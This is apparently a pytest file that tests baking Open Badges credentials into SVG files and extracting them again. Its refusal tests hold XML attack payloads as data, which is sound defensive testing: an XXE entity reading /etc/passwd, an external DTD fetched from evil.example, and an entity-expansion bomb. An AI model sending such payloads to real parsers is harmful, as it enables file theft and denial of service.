from __future__ import annotations

import pytest
from tests.shared import shared
from tests.unit.formats.images import SVG

from testamur.errors import InputError
from testamur.formats.baked import MAX_CREDENTIAL, svg

NAMESPACE = "https://purl.imsglobal.org/ob/v3p0"
CREDENTIAL = '{"name":"김민지 ]]> ]]]]>> <b>&amp; \\u0000", "x":\r\n1}\r'.encode()


def carrying(inside: str, attributes: str = f'xmlns:openbadges="{NAMESPACE}"') -> bytes:
    return f'<svg xmlns="http://www.w3.org/2000/svg" {attributes}>{inside}</svg>'.encode()


def test_what_goes_in_comes_out() -> None:
    baked = svg.bake(SVG, CREDENTIAL)
    assert svg.extract(baked) == CREDENTIAL


def test_the_drawing_stays_as_it_was_written() -> None:
    baked = svg.bake(SVG, b'{"a":1}')
    declaration = f' xmlns:openbadges="{NAMESPACE}"'.encode()
    element = b'<openbadges:credential><![CDATA[{"a":1}]]></openbadges:credential>'
    assert baked.count(element) == 1
    assert baked.replace(element, b"").replace(declaration, b"") == SVG


def test_a_token_stands_in_the_attribute() -> None:
    baked = svg.bake(SVG, b"eyJh.eyJi.c2ln")
    assert b'<openbadges:credential verify="eyJh.eyJi.c2ln"/>' in baked
    assert svg.extract(baked) == b"eyJh.eyJi.c2ln"


def test_it_is_the_first_child() -> None:
    baked = svg.bake(SVG, b'{"a":1}').decode()
    assert baked.index("<openbadges:credential>") < baked.index("<title>")
    assert baked[baked.index("<svg") :].partition("><openbadges:credential>")[0].endswith("data-note='a > b'")


def test_baking_again_replaces() -> None:
    assert svg.bake(svg.bake(SVG, CREDENTIAL), b"a.b.c") == svg.bake(SVG, b"a.b.c")


def test_older_badges_are_replaced_too() -> None:
    inside = '<o:assertion xmlns:o="http://openbadges.org" verify="https://old.example/1"/><rect/>'
    baked = svg.bake(carrying(inside), b"a.b.c")
    assert b"old.example" not in baked
    assert b"<rect/>" in baked


def test_one_carrier_inside_another_goes_with_it() -> None:
    nested = "<openbadges:credential>a<openbadges:credential>b</openbadges:credential>c</openbadges:credential>"
    assert svg.bake(carrying(f"<g/>{nested}<rect/>{nested}"), b"a.b.c") == svg.bake(carrying("<g/><rect/>"), b"a.b.c")


def test_an_empty_root_and_a_taken_prefix() -> None:
    assert svg.extract(svg.bake(b"<svg/>", b'{"a":1}')) == b'{"a":1}'
    assert svg.extract(svg.bake(b'<s:svg xmlns:s="http://www.w3.org/2000/svg" />', b"a.b.c")) == b"a.b.c"
    taken = carrying("<g/>", 'xmlns:openbadges="http://openbadges.org"')
    assert svg.extract(svg.bake(taken, CREDENTIAL)) == CREDENTIAL


def test_other_carriers_are_read() -> None:
    old = carrying('<o:assertion xmlns:o="http://openbadges.org" verify="https://old.example/1"/>')
    assert svg.extract(old) == b"https://old.example/1"
    both = carrying(
        '<o:assertion xmlns:o="http://openbadges.org" verify="https://old.example/1"><![CDATA[{"id":1}]]></o:assertion>'
    )
    assert svg.extract(both) == b'{"id":1}'
    clr = carrying('<c:credential xmlns:c="https://purl.imsglobal.org/clr/v2p0" verify="a.b.c"></c:credential>')
    assert svg.extract(clr) == b"a.b.c"
    escaped = carrying("<openbadges:credential>{&quot;a&quot;:1}</openbadges:credential>")
    assert svg.extract(escaped) == b'{"a":1}'


BOMB = '<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
BROKEN = {
    "svg.no_credential": SVG,
    "svg.not_xml": b"<svg><g></svg>",
    "svg.not_svg": b"<html><svg/></html>",
    "svg.entities": BOMB.encode() + b"<svg>&b;</svg>",
    "svg.encoding": b'<?xml version="1.0" encoding="ISO-8859-1"?><svg/>',
    "svg.too_complex": b"<svg>" + b"<g>" * 300 + b"</g>" * 300 + b"</svg>",
    "svg.too_large": b"<svg>" + b" " * (6 << 20) + b"</svg>",
    "svg.duplicate_credential": carrying('<openbadges:credential verify="a.b.c"/>' * 2),
    "svg.ambiguous_credential": carrying('<openbadges:credential verify="a.b.c">{}</openbadges:credential>'),
    "baked.too_large": carrying(f"<openbadges:credential>{'x' * (MAX_CREDENTIAL + 1)}</openbadges:credential>"),
}


@pytest.mark.parametrize("code", BROKEN)
def test_what_is_broken_or_hostile_is_refused_by_name(code: str) -> None:
    with pytest.raises(InputError) as refused:
        svg.extract(BROKEN[code])
    assert refused.value.code == code
    assert str(refused.value)


@pytest.mark.parametrize(
    "document",
    [
        b'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>',
        b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "https://evil.example/x.dtd"> %x;]><svg/>',
        '<?xml version="1.0" encoding="UTF-16"?><svg/>'.encode("utf-16"),
        b"<svg>" + b"<g/>" * 60_000 + b"</svg>",
        b"<svg " + b" ".join(b'a%d="x"' % n for n in range(1_100)) + b"/>",
        b"<svg " + b" ".join(b'a%d="x"' % n for n in range(50)),
        b"\xff\xfe<svg/>",
        b"<svg>\x00</svg>",
        b"",
    ],
)
def test_hostile_documents_are_refused(document: bytes) -> None:
    for use in (svg.find, svg.sanitise, lambda data: svg.bake(data, b"{}")):
        with pytest.raises(InputError):
            use(document)


def test_a_document_type_that_declares_nothing_is_read() -> None:
    doctype = b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
    assert svg.extract(svg.bake(doctype + b"<svg/>", b"{}")) == b"{}"


@pytest.mark.parametrize("credential", [b"", b"  ", b"\xff", b'{"a":"\x01"}', '"\uffff"'.encode()])
def test_what_xml_cannot_carry_is_not_baked(credential: bytes) -> None:
    with pytest.raises(InputError) as refused:
        svg.bake(SVG, credential)
    assert refused.value.code == "baked.not_text"


def test_published_images_are_baked_anew_without_loss() -> None:
    for path in sorted(shared("vectors/1edtech/validator-cases/inspector-vc/ob30").glob("*.svg")):
        image = path.read_bytes()
        credential = svg.extract(image)
        assert svg.extract(svg.bake(image, credential)) == credential
        assert svg.bake(svg.bake(image, CREDENTIAL), credential) == svg.bake(image, credential)


def test_an_empty_carrier_at_the_end_of_its_group_is_replaced_without_the_groups_end() -> None:
    element = b'<openbadges:credential xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0" verify="a.b.c"/>'
    drawing = SVG.replace(b"</svg>", b"<g>" + element + b"</g></svg>")
    assert svg.extract(svg.bake(drawing, b"d.e.f")) == b"d.e.f"
